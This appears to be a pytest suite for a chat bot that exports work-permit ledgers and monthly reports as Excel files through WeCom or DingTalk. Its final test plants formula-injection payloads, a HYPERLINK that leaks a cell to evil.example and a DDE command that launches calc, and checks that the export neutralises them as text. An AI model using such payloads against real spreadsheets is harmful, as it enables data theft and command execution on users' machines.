"""Exports asked for in chat, end to end: the 导出 text through the sandbox's encrypted callback, the
rq worker on a real Redis building the workbook, then wechatpy uploading it to the sandbox's
media/upload and sending it as a file message to the admin who asked."""
from __future__ import annotations

import io
from datetime import datetime, timedelta
from urllib.parse import quote

import pytest
import requests
from openpyxl import load_workbook
from rq import Queue, SimpleWorker

import settings
from exports import links
from exports.build import build_ledger
from exports.period import between, month as read_month
from exports.run import Run
from exports.scope import Scope
from jobs import exporting
from jobs.connection import redis
from models import AuditEvent, Outbox, Signature
from sandbox import wecom_media
from workflow.walkthrough import run_to_close

from tests.conftest import MORNING
from tests.test_wecom_real_path import world  # noqa: F401  (world is a fixture)

ADMIN = "lvming"          # 吕明, 系统管理员 in the sample plant
NOT_ADMIN = "zhuyan"      # 朱岩, 安全员: may apply for permits, not export


MONTH = f"{MORNING:%Y-%m}"


def permits(start: datetime = MORNING, codes=("hot_work", "height")) -> list:
    """Take sample permits from application to close through the engine, planned from start."""
    return [run_to_close(code, start=start) for code in codes]


def received(phone, user: str, msgtype: str) -> list[dict]:
    return [m for m in phone.messages(user) if m["msgtype"] == msgtype]


def export_cards(phone, user: str) -> list[dict]:
    return [m for m in phone.messages(user) if (m.get("task_id") or "").startswith("export-")]


def workbook_of(base: str, message: dict):
    data = requests.get(f"{base}/sandbox/media/{message['content']['media_id']}", timeout=10)
    assert data.status_code == 200
    return load_workbook(io.BytesIO(data.content))


def work_only(queue_name: str) -> None:
    """Run one queue's jobs, as a worker busy elsewhere would leave the other queue waiting."""
    SimpleWorker([Queue(queue_name, connection=redis())], connection=redis()).work(burst=True)


def test_an_admin_exports_the_ledger_in_chat_and_gets_the_file(world):
    phone, drain, base = world
    permit = permits()[0]
    answer = phone.text(ADMIN, f"导出 台账 {MONTH}")
    assert answer["status"] == 200
    work_only("deliver")   # the answer comes before any worker has built anything
    card = export_cards(phone, ADMIN)[0]
    assert card["card"]["main_title"]["title"] == f"正在生成：作业票台账 {MONTH}"
    assert "正在生成…" in card["card"]["main_title"]["desc"]
    assert [b["text"] for b in card["card"]["button_list"]] == ["刷新进度"]
    drain()
    files = received(phone, ADMIN, "file")
    assert len(files) == 1
    stats = requests.get(f"{base}/sandbox/stats").json()
    assert stats["media/upload"] >= 1          # uploaded through the platform's media API first
    book = workbook_of(base, files[0])
    sheet = book["作业票台账"]
    assert [c.value for c in sheet[3]][:2] == ["作业票编号", "作业类型"]
    assert sheet.cell(4, 1).value == permit.no and isinstance(sheet.cell(4, 12).value, datetime)
    assert book["签字明细"].max_row - 3 == Signature.select().count()
    # The card became what was made, with the send's own response_code, and no longer takes clicks.
    final = export_cards(phone, ADMIN)[0]
    assert not final["state"]["interactive"]
    assert final["state"]["card"]["main_title"]["title"].startswith("已生成")
    assert "文件已发到本对话" in final["state"]["card"]["sub_title_text"]
    event = AuditEvent.get(AuditEvent.action == "export")
    assert event.actor.startswith("吕明") and event.data["delivery"] == "file"
    assert {row.state for row in Outbox.select()} == {"sent"}


def test_refresh_shows_progress_on_the_same_card_and_the_final_state_still_lands(world):
    phone, drain, base = world
    permits()
    phone.text(ADMIN, f"导出 月报 {MONTH}")
    work_only("deliver")
    card = export_cards(phone, ADMIN)[0]
    phone.click(ADMIN, card)            # 刷新进度 while the job still waits for a worker
    work_only("default")                # the export job answers the click itself, mid-build
    drain()
    updates = export_cards(phone, ADMIN)[0]["updates"]
    assert len(updates) == 2            # each with its own single-use code: the click's, then the send's
    progress = updates[0]["card"]
    assert progress["card_type"] == "button_interaction" and progress["task_id"] == card["task_id"]
    shown = {row["keyname"]: row["value"] for row in progress["horizontal_content_list"]}
    assert shown["进度"].endswith("%")
    assert updates[1]["card"]["card_type"] == "text_notice"
    assert "综合评价得分" in updates[1]["card"]["sub_title_text"]
    book = workbook_of(base, received(phone, ADMIN, "file")[0])
    assert book.sheetnames[:2] == ["概览", "综合评价"] and book["概览"]._charts


def test_someone_without_the_role_is_refused_in_chat_and_audited(world):
    phone, drain, _ = world
    phone.text(NOT_ADMIN, f"导出 台账 {MONTH}")
    drain()
    said = received(phone, NOT_ADMIN, "text")[-1]["content"]["content"]
    assert said == "未办理：导出需要系统管理员或安全管理部门负责人角色"
    refused = AuditEvent.get(AuditEvent.action == "refused")
    assert refused.data["command"] == "导出" and refused.actor.startswith("朱岩")
    assert not export_cards(phone, NOT_ADMIN) and not received(phone, NOT_ADMIN, "file")


@pytest.mark.parametrize("text, says", [
    ("导出 台账 2026-13", "月份“2026-13”不对"),
    ("导出 台账 2026-12-01~2026-11-01", "开始日期 2026-12-01 晚于结束日期 2026-11-01"),
    ("导出 台账", "请写明期间"),
    ("导出 台账 2026-11 焊工", "“焊工”不是作业类型、单位或状态"),
    ("导出", "请写明导出什么"),
])
def test_a_bad_request_gets_the_usage_and_nothing_is_built(world, text, says):
    phone, drain, _ = world
    phone.text(ADMIN, text)
    drain()
    said = received(phone, ADMIN, "text")[-1]["content"]["content"]
    assert says in said and "导出 台账 2026-11 ——" in said
    assert not export_cards(phone, ADMIN) and AuditEvent.select().where(AuditEvent.action == "export").count() == 0


def test_an_empty_month_gives_a_valid_workbook_that_says_no_data(world):
    phone, drain, base = world
    phone.text(ADMIN, "导出 台账 2031-02")
    drain()
    book = workbook_of(base, received(phone, ADMIN, "file")[0])
    for name in ("作业票台账", "签字明细", "气体检测记录", "报警记录"):
        assert book[name].cell(4, 1).value == "无数据"


def _limit(monkeypatch, limit: int) -> None:
    """Give the app and the sandbox the same, smaller upload limit for files."""
    from bot.wecom import WeComAdapter
    monkeypatch.setattr(WeComAdapter, "max_file_bytes", limit)
    monkeypatch.setitem(wecom_media.MEDIA_MAX, "file", limit)


def test_a_ledger_over_the_upload_limit_is_split_by_month_and_the_bot_says_so(world, monkeypatch):
    phone, drain, base = world
    permits()
    current = read_month(MONTH)
    previous = read_month(f"{current.first - timedelta(days=1):%Y-%m}")
    permits(datetime(previous.first.year, previous.first.month, 6, 0, 0), ("hot_work", "height", "lifting"))
    period = between(previous.label, current.label)
    folder = settings.current().instance_path
    whole = build_ledger(Scope(period), folder / "whole.xlsx", Run.current()).size
    parts = [build_ledger(Scope(p), folder / f"{p.label}.xlsx", Run.current()).size for p in period.months()]
    limit = (max(parts) + whole) // 2
    assert max(parts) < limit < whole
    _limit(monkeypatch, limit)
    phone.text(ADMIN, f"导出 台账 {previous.label}~{current.label}")
    drain()
    files = received(phone, ADMIN, "file")
    assert len(files) == 2
    final = export_cards(phone, ADMIN)[0]["state"]["card"]["sub_title_text"]
    assert "超过企业微信单个文件" in final and "已按月拆分为 2 个文件" in final
    assert {row.state for row in Outbox.select()} == {"sent"}   # nothing the platform had to refuse
    months = sorted(workbook_of(base, f)["作业票台账"].cell(1, 1).value for f in files)
    assert months == [f"作业票台账（{previous.label}）", f"作业票台账（{current.label}）"]
    assert AuditEvent.get(AuditEvent.action == "export").data["delivery"] == "split"


def test_a_single_month_over_the_limit_is_offered_as_a_short_lived_link(world, monkeypatch):
    phone, drain, base = world
    permit = permits()[0]
    _limit(monkeypatch, 6 * 1024)
    monkeypatch.setenv("PUBLIC_BASE_URL", phone.app)   # where the phone reaches the app
    settings.configure()
    phone.text(ADMIN, f"导出 台账 {MONTH}")
    drain()
    assert not received(phone, ADMIN, "file")
    said = received(phone, ADMIN, "text")[-1]["content"]["content"]
    assert "不能作为文件发送" in said and f"{links.VALID_MINUTES} 分钟内" in said
    url = said[said.index("http"):].split()[0]
    got = requests.get(url, timeout=10)
    assert got.status_code == 200 and quote("作业票台账_2026-11.xlsx") in got.headers["Content-Disposition"]
    assert load_workbook(io.BytesIO(got.content))["作业票台账"].cell(4, 1).value == permit.no
    card = export_cards(phone, ADMIN)[0]["state"]["card"]
    assert card["card_action"]["url"] == url
    token = url.rsplit("/", 1)[1]
    assert links.find(token, now=datetime(2100, 1, 1)).expired
    assert requests.get(url, timeout=10).status_code == 410
    assert requests.get(f"{phone.app}/exports/{'x' * 43}", timeout=10).status_code == 404


def test_the_monthly_report_goes_to_the_safety_department(world):
    phone, drain, base = world
    permits()
    exporting.monthly_report(MONTH)
    drain()
    for account in ("qiananping", "sunli", "lvming"):      # everyone in 安全环保部
        assert "月度作业许可分析已生成" in received(phone, account, "text")[-1]["content"]["content"]
        book = workbook_of(base, received(phone, account, "file")[0])
        assert book["类型与级别"]["B4"].value is not None and book["类型与级别"]._charts
    assert not received(phone, "zhuyan", "file")
    exporting.monthly_report(MONTH)       # a second enqueue sends nothing again
    drain()
    assert len(received(phone, "sunli", "file")) == 1


def test_an_export_that_fails_ends_its_card_and_says_so(world, monkeypatch):
    phone, drain, _ = world

    def broken(*args, **kwargs):
        raise OSError("disk full")
    monkeypatch.setattr(exporting, "build", broken)
    phone.text(ADMIN, f"导出 台账 {MONTH}")
    drain()
    card = export_cards(phone, ADMIN)[0]
    assert card["state"]["replace_name"] == "导出失败" and not card["state"]["interactive"]
    said = received(phone, ADMIN, "text")[-1]["content"]["content"]
    assert said.startswith(f"导出失败：作业票台账 {MONTH}") and "请稍后重试" in said
    assert not received(phone, ADMIN, "file")


def test_the_platform_refuses_a_file_over_20_mb_which_is_why_exports_never_send_one(world):
    from bot.base import PlatformError
    from bot.registry import wecom_adapter
    from bot.wecom import MAX_MEDIA
    adapter = wecom_adapter()
    assert adapter.max_file_bytes == MAX_MEDIA == wecom_media.MEDIA_MAX["file"] == 20 * 1024 * 1024
    with pytest.raises(PlatformError) as refused:
        adapter.send_file(ADMIN, "太大.xlsx", b"x" * (MAX_MEDIA + 1))
    assert refused.value.code == 45001 and not refused.value.retryable
    assert adapter.send_file(ADMIN, "刚好.xlsx", b"x" * MAX_MEDIA)["media_id"]


@pytest.mark.parametrize("platform", ["wecom", "dingtalk"])
def test_a_place_written_as_a_formula_in_chat_reaches_the_ledger_as_text(platform, plant, monkeypatch, redis_conn):
    from models.permit import Permit
    from tests.test_wecom_real_path import apply_text
    from tests.worlds import world as a_world
    # A place must be a node of the plant's tree, so a formula can only follow it; 内容 is free text.
    evil_place, evil_content = '3#罐区 =HYPERLINK("http://evil.example/?x="&A1,"详情")', "=cmd|' /C calc'!A0"
    with a_world(platform, plant=plant, monkeypatch=monkeypatch, redis_conn=redis_conn) as w:
        text = apply_text().replace("地点: 3#罐区东侧管廊", f"地点: {evil_place}")
        w.phone.text("zhuyan", text.replace("内容: DN100 管线法兰焊接", f"内容: {evil_content}"))
        w.drain()
        permit = Permit.get()
        assert (permit.location, permit.content) == (evil_place, evil_content)
        from datetime import timezone
        month = f"{permit.planned_start.replace(tzinfo=timezone.utc).astimezone(settings.current().plant_tz):%Y-%m}"
        w.phone.text(ADMIN, f"导出 台账 {month}")
        w.drain()
        files = received(w.phone, ADMIN, "file")
        assert len(files) == 1
        media = "sandbox/media" if platform == "wecom" else "sandbox/dingtalk-media"
        data = requests.get(f"{w.sandbox}/{media}/{files[0]['content']['media_id']}", timeout=10)
        sheet = load_workbook(io.BytesIO(data.content))["作业票台账"]
        header = [c.value for c in sheet[3]]
        row = dict(zip(header, sheet[4]))
        assert row["作业票编号"].value == permit.no
        assert (row["作业地点"].value, row["作业地点"].data_type) == (evil_place, "s")
        cell = row["作业内容"]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (evil_content, "s", True)
        assert row["计划开始"].data_type == "d"
